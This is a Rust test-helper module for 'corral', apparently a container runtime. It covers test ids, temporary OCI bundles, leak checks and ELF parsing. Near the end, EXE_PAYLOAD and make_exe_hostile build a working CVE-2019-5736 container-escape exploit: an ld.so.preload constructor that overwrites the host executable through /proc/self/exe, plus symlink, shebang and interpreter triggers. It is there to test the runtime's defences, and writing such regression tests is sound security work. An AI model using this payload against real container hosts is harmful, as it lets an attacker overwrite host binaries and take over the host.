//! Dev-only helpers shared by corral's tests.
//!
//! * [`probe_path`]: the static `corral-probe` binary built by `build.rs`.
//! * [`unique_id`]: collision-free ids starting with `corral-t-`.
//! * [`TestRootfs`]: a temporary OCI bundle with a busybox + probe rootfs.
//! * [`assert_no_leaks`]: checks that nothing (mounts, cgroups, processes,
//!   state dirs) mentioning an id survived a test.
//! * [`require_root`]: fail loudly when a test is not run as root.
//! * [`soak`]: what the soak tests measure (fds, threads, RSS, children, a parent cgroup).
//! * [`Netns`]: a network namespace made for a test, deleted on drop.
#![deny(unsafe_op_in_unsafe_fn)]
#![deny(clippy::undocumented_unsafe_blocks)]

mod netns;
pub mod soak;

pub use netns::Netns;

use std::fs;
use std::io::Read;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// Prefix of every id produced by [`unique_id`].
pub const ID_PREFIX: &str = "corral-t-";

/// Busybox applets symlinked into `rootfs/bin`.
pub const BUSYBOX_APPLETS: &[&str] = &[
    "sh", "true", "false", "echo", "sleep", "cat", "ls", "ps", "mount", "id", "head", "hostname",
    "env", "grep", "wc", "kill", "readlink", "mkdir", "touch", "rm", "stat", "umount", "uname",
    "tail", "printf", "test", "pwd", "ln", "chmod", "ip", "nc", "wget", "httpd", "ping",
    "ifconfig", "dd", "timeout", "route", "seq",
];

/// Path of the statically linked probe binary (built by `build.rs`).
pub fn probe_path() -> &'static Path {
    Path::new(env!("CORRAL_PROBE"))
}

/// A unique id: `corral-t-<prefix>-<pid>-<counter><time>` (base 36),
/// lowercase `[a-z0-9-]`, at most 40 characters. The prefix is sanitized
/// (lowercased, other characters become `-`) and truncated if needed.
pub fn unique_id(prefix: &str) -> String {
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let n = COUNTER.fetch_add(1, Ordering::Relaxed);
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0);
    // Fixed width time part (4 base-36 digits of the microsecond clock)
    // guards against pid reuse between runs.
    let t = ((nanos / 1000) % 36u128.pow(4)) as u64;
    let suffix = format!(
        "-{}-{}{:0>4}",
        base36(u64::from(std::process::id())),
        base36(n),
        base36(t)
    );
    let mut p: String = prefix
        .chars()
        .map(|c| {
            let c = c.to_ascii_lowercase();
            if c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' {
                c
            } else {
                '-'
            }
        })
        .collect();
    let room = 40usize.saturating_sub(ID_PREFIX.len() + suffix.len());
    p.truncate(room);
    let p = p.trim_matches('-');
    if p.is_empty() {
        format!("{ID_PREFIX}x{suffix}")
    } else {
        format!("{ID_PREFIX}{p}{suffix}")
    }
}

fn base36(mut v: u64) -> String {
    const DIGITS: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
    if v == 0 {
        return "0".into();
    }
    let mut out = Vec::new();
    while v > 0 {
        out.push(DIGITS[(v % 36) as usize]);
        v /= 36;
    }
    out.reverse();
    String::from_utf8(out).expect("ascii")
}

/// Panics with "this test needs root" unless the effective uid is 0.
/// Tests fail loudly rather than skip.
pub fn require_root() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        panic!("this test needs root (run the test suite as root)");
    }
}

/// True when the ELF file at `path` has no `PT_INTERP` program header,
/// i.e. needs no dynamic loader (static or static-pie). Errors on non-ELF.
pub fn is_static_elf(path: &Path) -> std::io::Result<bool> {
    use std::io::{Error, ErrorKind};
    let mut data = Vec::new();
    fs::File::open(path)?.take(1 << 20).read_to_end(&mut data)?;
    let bad = |m: &str| Error::new(ErrorKind::InvalidData, format!("{}: {m}", path.display()));
    if data.len() < 52 || &data[..4] != b"\x7fELF" {
        return Err(bad("not an ELF file"));
    }
    let is64 = data[4] == 2;
    let le = data[5] == 1;
    let rd = |off: usize, len: usize| -> Option<u64> {
        let b = data.get(off..off + len)?;
        let mut v: u64 = 0;
        for i in 0..len {
            let byte = if le { b[len - 1 - i] } else { b[i] };
            v = (v << 8) | u64::from(byte);
        }
        Some(v)
    };
    let (phoff, phentsize, phnum) = if is64 {
        (rd(0x20, 8), rd(0x36, 2), rd(0x38, 2))
    } else {
        (rd(0x1c, 4), rd(0x2a, 2), rd(0x2c, 2))
    };
    let (Some(phoff), Some(phentsize), Some(phnum)) = (phoff, phentsize, phnum) else {
        return Err(bad("truncated ELF header"));
    };
    for i in 0..phnum {
        let off = (phoff + i * phentsize) as usize;
        let p_type = rd(off, 4).ok_or_else(|| bad("truncated program headers"))?;
        if p_type == 3 {
            // PT_INTERP
            return Ok(false);
        }
    }
    Ok(true)
}

fn host_busybox() -> PathBuf {
    for cand in ["/bin/busybox", "/usr/bin/busybox"] {
        let p = Path::new(cand);
        if p.is_file() {
            match is_static_elf(p) {
                Ok(true) => return p.to_path_buf(),
                Ok(false) => panic!(
                    "{cand} is dynamically linked; install busybox-static (apt-get install busybox-static)"
                ),
                Err(e) => panic!("{cand}: {e}; install busybox-static"),
            }
        }
    }
    panic!("no /bin/busybox or /usr/bin/busybox found; install busybox-static (apt-get install busybox-static)")
}

/// A temporary OCI bundle: `bundle()/config.json` and `bundle()/rootfs`.
///
/// The rootfs holds `bin/busybox` (static, copied from the host) with applet
/// symlinks ([`BUSYBOX_APPLETS`]), `/probe` (mode 0755) and empty `proc dev
/// sys tmp etc root` directories. Everything is removed on drop; mounts
/// still present under the bundle are reported and lazily detached first
/// (and if that fails the directory is left in place rather than deleting
/// through a mount).
pub struct TestRootfs {
    dir: Option<tempfile::TempDir>,
    bundle: PathBuf,
    rootfs: PathBuf,
}

impl TestRootfs {
    /// Creates a bundle in the system temp dir (`$TMPDIR` or `/tmp`).
    pub fn new() -> Self {
        Self::build("corral-bundle-")
    }

    /// Like [`TestRootfs::new`], but the bundle directory name contains
    /// `id`, so a mount leaked under it is caught by [`assert_no_leaks`].
    pub fn with_id(id: &str) -> Self {
        Self::build(&format!("{id}-bundle-"))
    }

    fn build(prefix: &str) -> Self {
        let dir = tempfile::Builder::new()
            .prefix(prefix)
            .tempdir()
            .expect("create bundle tempdir");
        let bundle = dir.path().canonicalize().expect("canonicalize bundle");
        let rootfs = bundle.join("rootfs");
        let set_mode = |p: &Path, mode: u32| {
            fs::set_permissions(p, fs::Permissions::from_mode(mode))
                .unwrap_or_else(|e| panic!("chmod {}: {e}", p.display()))
        };
        set_mode(&bundle, 0o755);
        fs::create_dir(&rootfs).expect("mkdir rootfs");
        set_mode(&rootfs, 0o755);
        for d in ["bin", "proc", "dev", "sys", "tmp", "etc", "root"] {
            let p = rootfs.join(d);
            fs::create_dir(&p).unwrap_or_else(|e| panic!("mkdir {}: {e}", p.display()));
            set_mode(&p, if d == "tmp" { 0o1777 } else { 0o755 });
        }
        let bb = host_busybox();
        let bb_dst = rootfs.join("bin/busybox");
        fs::copy(&bb, &bb_dst).unwrap_or_else(|e| panic!("copy {}: {e}", bb.display()));
        set_mode(&bb_dst, 0o755);
        for applet in BUSYBOX_APPLETS {
            let p = rootfs.join("bin").join(applet);
            symlink("busybox", &p).unwrap_or_else(|e| panic!("symlink {}: {e}", p.display()));
        }
        let probe_dst = rootfs.join("probe");
        fs::copy(probe_path(), &probe_dst)
            .unwrap_or_else(|e| panic!("copy probe {}: {e}", probe_path().display()));
        set_mode(&probe_dst, 0o755);
        TestRootfs {
            dir: Some(dir),
            bundle,
            rootfs,
        }
    }

    /// The bundle directory (canonical path).
    pub fn bundle(&self) -> &Path {
        &self.bundle
    }

    /// `bundle()/rootfs`.
    pub fn rootfs(&self) -> &Path {
        &self.rootfs
    }

    /// Writes `config` (pretty-printed) to `bundle()/config.json`.
    pub fn write_config(&self, config: &serde_json::Value) {
        let path = self.bundle.join("config.json");
        let text = serde_json::to_string_pretty(config).expect("serialize config");
        fs::write(&path, text).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
    }
}

impl Default for TestRootfs {
    fn default() -> Self {
        Self::new()
    }
}

/// Mount points (unescaped) in /proc/self/mountinfo at or below `dir`.
fn mounts_under(dir: &Path) -> Vec<PathBuf> {
    let Ok(info) = fs::read_to_string("/proc/self/mountinfo") else {
        return Vec::new();
    };
    info.lines()
        .filter_map(|l| l.split(' ').nth(4))
        .map(|mp| PathBuf::from(unescape_mountinfo(mp)))
        .filter(|mp| mp.starts_with(dir))
        .collect()
}

fn unescape_mountinfo(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\'
            && i + 3 < b.len()
            && b[i + 1..i + 4].iter().all(|c| (b'0'..=b'7').contains(c))
        {
            out.push((b[i + 1] - b'0') * 64 + (b[i + 2] - b'0') * 8 + (b[i + 3] - b'0'));
            i += 4;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

impl Drop for TestRootfs {
    fn drop(&mut self) {
        let Some(dir) = self.dir.take() else { return };
        let mut remaining = mounts_under(&self.bundle);
        if !remaining.is_empty() {
            eprintln!(
                "testkit: TestRootfs {} still has mounts at drop: {:?}; detaching (MNT_DETACH)",
                self.bundle.display(),
                remaining
            );
            // Deepest (latest) first; repeat a few times for stacked mounts.
            for _ in 0..8 {
                for mp in remaining.iter().rev() {
                    if let Ok(c) = std::ffi::CString::new(mp.as_os_str().as_encoded_bytes()) {
                        // SAFETY: c is a valid NUL-terminated path.
                        unsafe { libc::umount2(c.as_ptr(), libc::MNT_DETACH) };
                    }
                }
                remaining = mounts_under(&self.bundle);
                if remaining.is_empty() {
                    break;
                }
            }
            if !remaining.is_empty() {
                let kept = dir.keep();
                eprintln!(
                    "testkit: could not unmount {:?}; leaving {} in place",
                    remaining,
                    kept.display()
                );
                return;
            }
        }
        let path = dir.path().to_path_buf();
        if let Err(e) = dir.close() {
            eprintln!("testkit: removing {}: {e}", path.display());
        }
    }
}

/// Panics, listing everything found, if anything mentioning `id` is left:
///
/// * lines of `/proc/self/mountinfo` containing `id`;
/// * directories whose name contains `id` under `/sys/fs/cgroup` (any
///   hierarchy, v1 or v2, up to depth 5 from `/sys/fs/cgroup`);
/// * processes (other than this one) whose `/proc/<pid>/cmdline` or
///   `/proc/<pid>/cgroup` contains `id`, except zombies that another process
///   than this one must reap (a killed container process reparented to pid 1,
///   which reaps when it will: dead, it holds nothing but its pid);
/// * if `state_root` is given, `<state_root>/<id>`, and processes holding an
///   fd on it or on anything under it (a container process still waiting at
///   its start gate holds its state dir open, whatever its cgroup).
///
/// To tolerate asynchronous teardown (e.g. the kernel removing a killed
/// process) the check is retried for up to 2 seconds before panicking.
pub fn assert_no_leaks(id: &str, state_root: Option<&Path>) {
    assert!(!id.is_empty(), "assert_no_leaks: empty id");
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let leaks = find_leaks(id, state_root);
        if leaks.is_empty() {
            return;
        }
        if Instant::now() >= deadline {
            panic!("leaked resources for {id:?}:\n  {}", leaks.join("\n  "));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The non-panicking part of [`assert_no_leaks`]: one human-readable line
/// per leaked resource (single pass, no retry).
pub fn find_leaks(id: &str, state_root: Option<&Path>) -> Vec<String> {
    let mut leaks = Vec::new();
    if let Ok(info) = fs::read_to_string("/proc/self/mountinfo") {
        for line in info.lines().filter(|l| l.contains(id)) {
            leaks.push(format!("mount: {line}"));
        }
    }
    walk_cgroups(Path::new("/sys/fs/cgroup"), id, 0, &mut leaks);
    let me = std::process::id().to_string();
    let state_dir = state_root.map(|r| r.join(id));
    if let Ok(rd) = fs::read_dir("/proc") {
        for e in rd.flatten() {
            let name = e.file_name();
            let Some(pid) = name.to_str() else { continue };
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me || foreign_zombie(pid, &me) {
                continue;
            }
            let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let cgroup = fs::read(format!("/proc/{pid}/cgroup")).unwrap_or_default();
            let needle = id.as_bytes();
            let in_cmd = contains(&cmdline, needle);
            let in_cg = contains(&cgroup, needle);
            if in_cmd || in_cg {
                let cmd: Vec<String> = cmdline
                    .split(|b| *b == 0)
                    .filter(|a| !a.is_empty())
                    .map(|a| String::from_utf8_lossy(a).into_owned())
                    .collect();
                let why = match (in_cmd, in_cg) {
                    (true, true) => "cmdline+cgroup",
                    (true, false) => "cmdline",
                    _ => "cgroup",
                };
                leaks.push(format!("process {pid} ({why}): {}", cmd.join(" ")));
            } else if let Some(fd) = state_dir.as_deref().and_then(|d| fd_under(pid, d)) {
                leaks.push(format!("process {pid} (fd on {})", fd.display()));
            }
        }
    }
    if let Some(root) = state_root {
        let p = root.join(id);
        if fs::symlink_metadata(&p).is_ok() {
            leaks.push(format!("state dir: {}", p.display()));
        }
    }
    leaks
}

/// Whether `pid` is a zombie whose parent is not `me`.
fn foreign_zombie(pid: &str, me: &str) -> bool {
    let Ok(stat) = fs::read_to_string(format!("/proc/{pid}/stat")) else {
        return false;
    };
    // "pid (comm) S ppid ...": comm may hold spaces and parentheses.
    let Some(rest) = stat.rfind(')').map(|i| &stat[i + 1..]) else {
        return false;
    };
    let mut f = rest.split_whitespace();
    matches!((f.next(), f.next()), (Some("Z"), Some(ppid)) if ppid != me)
}

/// The first fd of process `pid` that refers to `dir` or to something under it.
fn fd_under(pid: &str, dir: &Path) -> Option<PathBuf> {
    fs::read_dir(format!("/proc/{pid}/fd"))
        .ok()?
        .flatten()
        .filter_map(|e| fs::read_link(e.path()).ok())
        .find(|t| t.starts_with(dir))
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

fn walk_cgroups(dir: &Path, id: &str, depth: usize, leaks: &mut Vec<String>) {
    if depth > 5 {
        return;
    }
    let Ok(rd) = fs::read_dir(dir) else { return };
    for e in rd.flatten() {
        // file_type() does not follow symlinks (cgroup v1 has cpu -> cpu,cpuacct).
        let Ok(ft) = e.file_type() else { continue };
        if !ft.is_dir() {
            continue;
        }
        let path = e.path();
        if e.file_name().to_string_lossy().contains(id) {
            leaks.push(format!("cgroup: {}", path.display()));
        }
        walk_cgroups(&path, id, depth + 1, leaks);
    }
}

/// A private state root for a test's containers (removed on drop).
pub fn state_root() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("corral-state-")
        .tempdir()
        .expect("state root")
}

/// A close-on-exec pipe: (read end, write end).
pub fn pipe() -> (std::os::fd::OwnedFd, std::os::fd::OwnedFd) {
    let (r, w) = std::io::pipe().expect("pipe");
    (r.into(), w.into())
}

/// Everything until end of file on `fd` (closed after), as text.
pub fn read_all(fd: std::os::fd::OwnedFd) -> String {
    let mut s = String::new();
    std::io::Read::read_to_string(&mut std::fs::File::from(fd), &mut s).expect("read");
    s
}

/// The payload of [`make_exe_hostile`]: a constructor preloaded (`/etc/ld.so.preload`) into
/// every dynamically linked program the container runs. The test roots' own programs are
/// static (busybox, the probe), so only a host executable run inside through `/proc/self/exe`
/// ever loads it. It appends what `/proc/self/exe` is to `/tmp/pwned`; with `PWN_WRITE` set
/// it then does what CVE-2019-5736's exploit does: keeps an `O_PATH` fd on `/proc/self/exe`,
/// forks a writer (a shell loop) that reopens it for writing once no process runs it any more
/// (bounded: about 10 s) and overwrites it, and turns itself into `sleep` so that it stops
/// running the binary.
const EXE_PAYLOAD: &str = r##"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void pwn(void) {
  char exe[512] = {0};
  if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) exe[0] = '?';
  int m = open("/tmp/pwned", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (m >= 0) { dprintf(m, "%s\n", exe); close(m); }
  if (!getenv("PWN_WRITE")) _exit(42);
  int fd = open("/proc/self/exe", O_PATH);
  if (fork() == 0) {
    /* The writer stops running the binary too (busybox's sh is static), keeping the fd. */
    char cmd[256];
    snprintf(cmd, sizeof cmd,
             "i=0; while [ $i -lt 1000 ]; do (echo pwned > /proc/self/fd/%d) 2>/dev/null && exit 0;"
             " sleep 0.01; i=$((i+1)); done; exit 1", fd);
    execl("/bin/sh", "sh", "-c", cmd, (char *)0);
    _exit(1);
  }
  execl("/bin/sleep", "sleep", "20", (char *)0);
  _exit(43);
}
"##;

/// Makes `rootfs` an image that tries CVE-2019-5736 on `host_exe` (the executable of the
/// process that sets the container up: corral, or a program embedding the library): the
/// shared libraries `host_exe` needs (as `ldd` lists them, with `ld_library_path`), the
/// payload above in `/payload.so` listed in `/etc/ld.so.preload`, and every shape that reaches
/// `/proc/self/exe` when a program is executed: `/evil` (a symlink to it), `/script` (its `#!`
/// interpreter) and `/interp` (an ELF whose PT_INTERP it is). A host executable that runs in
/// the container leaves `/tmp/pwned` in the root.
pub fn make_exe_hostile(rootfs: &Path, host_exe: &Path, ld_library_path: Option<&str>) {
    let mut ldd = Command::new("ldd");
    ldd.arg(host_exe);
    if let Some(p) = ld_library_path {
        ldd.env("LD_LIBRARY_PATH", p);
    }
    let out = ldd.output().expect("run ldd");
    let text = String::from_utf8_lossy(&out.stdout);
    let mut libs = 0;
    for word in text.split_whitespace().filter(|w| w.starts_with('/')) {
        let src = Path::new(word);
        let dst = rootfs.join(word.trim_start_matches('/'));
        fs::create_dir_all(dst.parent().expect("lib dir")).expect("mkdir lib dir");
        fs::copy(src, &dst).unwrap_or_else(|e| panic!("copy {word}: {e}"));
        libs += 1;
    }
    assert!(
        libs >= 2,
        "ldd {} found no libraries: {text}",
        host_exe.display()
    );
    let work = tempfile::tempdir().expect("tempdir");
    let c = work.path().join("payload.c");
    fs::write(&c, EXE_PAYLOAD).expect("write payload.c");
    let cc = |args: &[&str]| {
        let out = Command::new("cc").args(args).output().expect("run cc");
        assert!(
            out.status.success(),
            "cc {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    let so = rootfs.join("payload.so");
    cc(&[
        "-shared",
        "-fPIC",
        "-o",
        &so.to_string_lossy(),
        &c.to_string_lossy(),
    ]);
    fs::write(rootfs.join("etc/ld.so.preload"), "/payload.so\n").expect("ld.so.preload");
    symlink("/proc/self/exe", rootfs.join("evil")).expect("symlink /evil");
    let script = rootfs.join("script");
    fs::write(&script, "#!/proc/self/exe\n").expect("write /script");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("chmod /script");
    let m = work.path().join("main.c");
    fs::write(&m, "int main(void) { return 0; }\n").expect("write main.c");
    let interp = rootfs.join("interp");
    cc(&[
        "-o",
        &interp.to_string_lossy(),
        &m.to_string_lossy(),
        "-Wl,--dynamic-linker=/proc/self/exe",
    ]);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unique_id_format() {
        let mut seen = std::collections::HashSet::new();
        for prefix in ["run", "Weird Prefix_With.Stuff!", "", &"x".repeat(100)] {
            for _ in 0..500 {
                let id = unique_id(prefix);
                assert!(id.starts_with(ID_PREFIX), "{id}");
                assert!(id.len() <= 40, "{id} too long");
                assert!(
                    id.bytes()
                        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
                    "{id}"
                );
                assert!(seen.insert(id.clone()), "duplicate {id}");
            }
        }
        assert!(unique_id("run").starts_with("corral-t-run-"));
    }

    #[test]
    fn base36_digits() {
        assert_eq!(base36(0), "0");
        assert_eq!(base36(35), "z");
        assert_eq!(base36(36), "10");
    }

    #[test]
    fn mountinfo_unescape() {
        assert_eq!(unescape_mountinfo("/a\\040b"), "/a b");
        assert_eq!(unescape_mountinfo("/plain"), "/plain");
    }
}
